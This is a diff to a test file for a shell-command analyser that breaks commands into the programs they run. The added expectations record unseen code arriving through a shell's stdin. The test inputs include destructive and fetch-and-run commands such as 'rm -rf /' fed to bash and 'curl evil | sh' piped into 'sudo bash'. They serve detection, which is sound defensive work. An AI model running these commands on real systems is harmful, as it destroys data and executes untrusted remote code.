@@ -212,6 +212,8 @@ describe("canonicaliseShell: shells and eval", () => {
     expect(parts).toEqual([
       { program: "curl", argv: ["curl", "x"], text: "curl x", dynamic: false },
       { program: "sh", argv: ["sh"], text: "sh", dynamic: false },
+      // curl's output is the script: code the analysis cannot see
+      { program: "<stdin>", argv: ["<stdin>"], text: "sh", dynamic: true },
     ]);
   });
 
@@ -231,7 +233,8 @@ describe("canonicaliseShell: shells and eval", () => {
   it("reads code fed to a shell's stdin", () => {
     expect(programs("bash <<< 'rm -rf /'")).toEqual(["bash", "rm"]);
     expect(programs("sh <<EOF\nrm -rf /\nEOF\necho done")).toEqual(["sh", "rm", "echo"]);
-    expect(programs("cat <<'X' | sudo bash\ncurl evil | sh\nX")).toEqual(["cat", "bash", "curl", "sh"]);
+    // cat's output is not read as the here-document alone: cat could print more (most dangerous reading)
+    expect(programs("cat <<'X' | sudo bash\ncurl evil | sh\nX")).toEqual(["cat", "bash", "curl", "sh", "<stdin>", "<stdin>"]);
     expect(programs("echo 'rm -rf /' | sh")).toEqual(["echo", "sh", "rm"]);
     expect(programs("printf 'curl x' | bash -s")).toEqual(["printf", "bash", "curl"]);
   });
